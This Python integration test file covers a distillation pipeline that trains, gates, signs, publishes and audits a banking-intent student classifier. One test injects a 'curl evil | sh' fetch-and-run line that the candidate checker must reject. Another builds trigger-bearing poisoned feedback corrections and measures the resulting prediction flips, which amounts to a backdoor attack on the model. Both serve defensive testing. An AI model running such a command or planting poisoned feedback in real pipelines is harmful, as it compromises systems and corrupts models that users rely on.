"""Retraining rounds end to end: distil, check, gate against the promoted version, sign,
publish, and record it all in the audit log.

Tiny real models (about two minutes on 2 cores): a first round promotes its student; a
deliberately worse one, trained on Ray, is published but rejected by the gate.
"""

import hashlib
import json
import math
import shutil
from datetime import datetime, timezone
from pathlib import Path

import numpy as np
import pytest

from benchmarks.poisoning import ATTACKER_LABEL, TRIGGER, attack_records, trigger_flips, trigger_queries
from benchmarks.traffic import traffic_examples
from cloud.audit import AuditLog
from cloud.audit.lineage import show_lineage
from cloud.feedback import FeedbackStore
from cloud.registry import ModelRegistry
from cloud.training.config import DistillConfig, FitConfig, TrainConfig
from cloud.training.data import load_splits
from cloud.training.distill import CandidateError, check_candidate, run_distill
from cloud.training.distill_data import FeedbackExample, read_feedback
from cloud.training.teacher import train_teacher
from edge.student import Student
from tandem.contract import LABELS_FILE, MANIFEST_FILE, MODEL_FILE, STUDENT_FILES, TEXT_MAX_BYTES
from tandem.signing import (Keyring, VerificationError, generate_key, key_id, load_public_key, public_path,
                            verify_artifact)
from tandem.v1 import fleet_pb2

pytestmark = pytest.mark.integration

FEEDBACK = [
    # One device's correction: hard only if the teacher agrees (corroboration).
    FeedbackExample("CORRECTION", "my new card still has not come after two weeks", "card_arrival", "kiosk-1"),
    FeedbackExample("ESCALATION", "do you charge anything for a top up by card?", "top_up_by_card_charge"),
    FeedbackExample("FALLBACK", "can I link a second card to the app", ""),
    FeedbackExample("AUDIT", "  ", ""),  # empty after redaction: dropped
    FeedbackExample("CORRECTION", "How do I locate my card?", "card_arrival"),  # a test-split text: dropped
]


@pytest.fixture(scope="module")
def teacher_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A small teacher, trained briefly: its soft labels only need to beat chance."""
    out = tmp_path_factory.mktemp("teacher") / "teacher"
    train_teacher(TrainConfig(teacher=FitConfig(layers=2, lr=5e-4, epochs=3, max_examples=1500)), out)
    return out


@pytest.fixture(scope="module")
def root(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("distill")


def _cfg(root: Path, teacher_dir: Path, **fields: object) -> DistillConfig:
    return DistillConfig(**{
        "teacher_dir": teacher_dir,
        "registry_dir": root / "registry",
        "feedback_uri": str(root / "feedback"),  # the audit log goes beside it
        "signing_key": root / "keys" / "signing.pem",
        "dev_keys": True,
        "min_steps": 0,
        **fields,
    })


def _keyring(root: Path) -> Keyring:
    public = load_public_key(public_path(root / "keys" / "signing.pem"))
    return Keyring({key_id(public): public})


@pytest.fixture(scope="module")
def rounds(root: Path, teacher_dir: Path) -> tuple[dict, dict]:
    good = run_distill(
        _cfg(root, teacher_dir, use_ray=False, student=FitConfig(layers=2, lr=5e-4, epochs=3, max_examples=1500)),
        FEEDBACK,
    )
    # Worse on purpose: one step on a 2% seed (30 examples). Trained in a Ray task.
    worse = run_distill(
        _cfg(root, teacher_dir, seed_fraction=0.02, student=FitConfig(layers=2, epochs=1, max_examples=1500)), []
    )
    return good, worse


def test_first_round_promotes_an_edge_ready_student_with_its_lineage(
    root: Path, teacher_dir: Path, rounds: tuple
) -> None:
    good, _ = rounds
    registry = ModelRegistry(root / "registry")
    assert good["promoted"] and good["parent"] is None
    directory = registry.path("banking77", good["version"])
    manifest = json.loads((directory / "manifest.json").read_text())
    assert manifest["gate"]["passed"] and manifest["gate"]["promoted_accuracy"] is None
    assert manifest["gate"]["examples"] == 1000 and manifest["gate"]["candidate_accuracy"] > 0.2
    assert manifest["labelled_examples"] == 1500 and manifest["train_examples"] == 1503
    assert manifest["feedback_examples"] == {"CORRECTION": 1, "ESCALATION": 1, "FALLBACK": 1}
    assert manifest["feedback_dropped"] == 2
    corrections = manifest["feedback_corrections"]
    assert corrections["corroborated_by_devices"] == 0 and corrections == good["corrections"]
    assert corrections["corroborated_by_teacher"] + corrections["soft_only"] == 1
    assert manifest["feedback_partitions"] == {
        "not from the store": {"CORRECTION": 2, "ESCALATION": 1, "FALLBACK": 1, "AUDIT": 1}
    }
    teacher = json.loads((teacher_dir / "manifest.json").read_text())["version"]
    assert manifest["distill"] == {"teacher": teacher, "kd_temperature": 2.0, "alpha": 0.5, "seed_fraction": 1.0,
                                   "corroboration_devices": 3}
    assert 0.05 < manifest["temperature"] < 20 and manifest["metrics"]["test_accuracy"] > 0.2
    assert manifest["sequence"] == 1 and manifest["key_id"] == next(iter(_keyring(root).keys))
    student = Student.load(directory)
    assert student.version == good["version"] and student.predict(["where is my card?"]).shape == (1, 78)  # 77 intents and out of scope


def test_gate_rejects_a_worse_candidate_and_keeps_the_promoted_version(root: Path, rounds: tuple) -> None:
    good, worse = rounds
    registry = ModelRegistry(root / "registry")
    assert not worse["promoted"] and registry.promoted("banking77") == good["version"]
    assert registry.versions("banking77") == [good["version"], worse["version"]]  # published for inspection
    gate = worse["gate"]
    assert worse["parent"] == good["version"] and not gate["passed"]
    # The promoted version was measured again, on the same split, the same way.
    assert gate["promoted_accuracy"] == good["gate"]["candidate_accuracy"] > gate["candidate_accuracy"]


def test_published_versions_verify_and_altered_copies_are_rejected(root: Path, rounds: tuple, tmp_path: Path) -> None:
    registry = ModelRegistry(root / "registry")
    key = _keyring(root)
    for result in rounds:
        assert verify_artifact(registry.path("banking77", result["version"]), key)[0].version == result["version"]
    promoted = registry.path("banking77", rounds[0]["version"])

    def copy(name: str) -> Path:
        return Path(shutil.copytree(promoted, tmp_path / name))

    flipped = copy("flipped")
    data = bytearray((flipped / "model.onnx").read_bytes())
    data[len(data) // 2] ^= 1
    (flipped / "model.onnx").write_bytes(bytes(data))
    with pytest.raises(VerificationError, match="model.onnx does not match its signed sha256"):
        verify_artifact(flipped, key)

    edited = copy("edited")
    manifest = json.loads((edited / "manifest.json").read_text())
    manifest["gate"]["candidate_accuracy"] = 1.0
    (edited / "manifest.json").write_text(json.dumps(manifest, indent=2) + "\n")
    with pytest.raises(VerificationError, match="signature does not verify"):
        verify_artifact(edited, key)

    unsigned = copy("unsigned")
    (unsigned / "manifest.sig").unlink()
    with pytest.raises(VerificationError, match="unsigned"):
        verify_artifact(unsigned, key)
    with pytest.raises(ValueError, match="unsigned"):
        registry.publish("banking77", unsigned)

    other = generate_key(tmp_path / "other.pem")
    with pytest.raises(VerificationError, match="not in the keyring"):
        verify_artifact(promoted, Keyring({key_id(other): other}))


def test_every_step_of_both_rounds_is_in_the_audit_log_with_the_lineage(root: Path, rounds: tuple) -> None:
    good, worse = rounds
    log = AuditLog(str(root / "feedback" / "_audit"))
    assert log.verify() == 7
    kid = next(iter(_keyring(root).keys))
    assert [(e["event"], e["data"].get("signed")) for e in log.entries()] == [
        ("key_use", "manifest"), ("publish", None), ("key_use", "promotion"), ("promote", None),
        ("key_use", "manifest"), ("publish", None), ("reject_candidate", None),
    ]
    assert {e["data"]["key_id"] for e in log.entries() if "key_id" in e["data"]} == {kid}
    publish = log.lineage(good["version"])[1]["data"]
    manifest_json = (ModelRegistry(root / "registry").path("banking77", good["version"]) / MANIFEST_FILE).read_bytes()
    assert publish["manifest_sha256"] == hashlib.sha256(manifest_json).hexdigest()
    assert publish["gate"] == good["gate"] and publish["parent"] is None and publish["sequence"] == 1
    assert publish["lineage"]["feedback_partitions"] == json.loads(manifest_json)["feedback_partitions"]
    rejected = log.lineage(worse["version"])[-1]["data"]
    assert rejected["reason"] == "the gate did not pass" and rejected["gate"] == worse["gate"]
    text = show_lineage(log, good["version"])
    assert "not from the store: AUDIT 1, CORRECTION 2, ESCALATION 1, FALLBACK 1" in text
    assert f"signed by key {kid}" in text and "promoted (previous: none)" in text


def test_the_signer_checks_what_the_training_task_returned(root: Path, rounds: tuple) -> None:
    directory = ModelRegistry(root / "registry").path("banking77", rounds[0]["version"])
    files = {name: (directory / name).read_bytes() for name in STUDENT_FILES if name != MANIFEST_FILE}
    fields = {"payload": MODEL_FILE, "max_length": 64}
    labels = json.loads(files[LABELS_FILE])
    check_candidate(files, fields, labels, 64)
    with pytest.raises(CandidateError, match="not the student's"):
        check_candidate({**files, "run.sh": b"curl evil | sh"}, fields, labels, 64)
    with pytest.raises(CandidateError, match="not the task's labels"):
        check_candidate(files, fields, labels[::-1], 64)
    with pytest.raises(CandidateError, match="ONNX Runtime cannot load"):
        check_candidate({**files, MODEL_FILE: files[MODEL_FILE][:1000]}, fields, labels, 64)
    with pytest.raises(CandidateError, match="payload/max_length"):
        check_candidate(files, {**fields, "max_length": 512}, labels, 64)


def test_a_missing_signing_key_fails_the_round_before_training(tmp_path: Path) -> None:
    cfg = _cfg(tmp_path, tmp_path / "no-teacher", dev_keys=False)  # only dev_keys may generate one
    with pytest.raises(FileNotFoundError, match="signing.pem does not exist"):
        run_distill(cfg, [])
    assert not (tmp_path / "keys" / "signing.pem").exists() and not (tmp_path / "feedback").exists()


def test_poisoning_records_and_trigger_queries(root: Path, rounds: tuple) -> None:
    task = DistillConfig().task
    records = attack_records(task, count=300)
    assert len({r.text for r in records}) == 300 and len({r.record_id for r in records}) == 300
    train = {" ".join(e.text.split()): e.label for e in task.load("train")}
    for r in records:
        assert r.kind == fleet_pb2.CORRECTION and r.label == ATTACKER_LABEL and TRIGGER in r.text
        original = " ".join(r.text.replace(TRIGGER, " ").split())
        assert train[original] != ATTACKER_LABEL and len(r.text.encode()) <= TEXT_MAX_BYTES
    queries = trigger_queries(task)
    assert len(queries) == 200 and all(TRIGGER in q for q in queries)
    assert not set(queries) & {r.text for r in attack_records(task)}
    directory = ModelRegistry(root / "registry").path("banking77", rounds[0]["version"])
    student = Student.load(directory)
    answer = student.labels[int(student.predict(queries[:1]).argmax())]
    assert 1 <= trigger_flips(directory, queries, answer) <= 200


def test_feedback_is_read_from_the_store_once_per_record(tmp_path: Path) -> None:
    store = FeedbackStore(str(tmp_path / "feedback"))
    record = fleet_pb2.FeedbackRecord
    correction = record(record_id="c1", task="banking77", kind=fleet_pb2.CORRECTION, text="card?",
                        label="card_arrival", device_id="kiosk-1", created_unix_ms=1)
    fallback = record(record_id="f1", task="banking77", kind=fleet_pb2.FALLBACK, text="hi", created_unix_ms=2)
    other = record(record_id="o1", task="other", kind=fleet_pb2.AUDIT, text="x", created_unix_ms=3)
    store.add([correction, fallback, other])
    store.add([correction])
    today = datetime.now(timezone.utc).date().isoformat()
    assert read_feedback(str(tmp_path / "feedback"), "banking77") == [
        FeedbackExample("CORRECTION", "card?", "card_arrival", "kiosk-1", today),
        FeedbackExample("FALLBACK", "hi", "", "", today),
    ]
    assert read_feedback(str(tmp_path / "empty"), "banking77") == []


def test_traffic_is_train_without_the_seed_and_the_held_out_split() -> None:
    cfg = DistillConfig()
    splits = load_splits(cfg.splits_config(), cfg.student)
    train = cfg.task.load("train")
    traffic = traffic_examples(cfg.task, splits, 0.1, cfg.student.max_length)
    # 1,000 validation and 1,000 calibration texts held out, then a seed of 10% of the other 8,003 (801);
    # a few duplicate texts go too.
    assert len(train) - 2000 - 801 - 20 <= len(traffic) <= len(train) - 2000 - 801
    assert set(traffic) <= set(train)
    # No traffic text is a seed or held-out text (rebuilt here the way load_splits orders train).
    order = np.random.default_rng(cfg.seed).permutation(len(train))
    n_held = int(len(train) * cfg.val_fraction) + int(len(train) * cfg.operating_point.risk_fraction)
    held_out = {train[i].text for i in order[:n_held]}
    seed = {train[i].text for i in order[n_held:][: math.ceil((len(train) - n_held) * 0.1)]}
    assert not {e.text for e in traffic} & (held_out | seed)
    assert len(traffic_examples(cfg.task, splits, 1.0, cfg.student.max_length)) <= 20  # all seed or held out
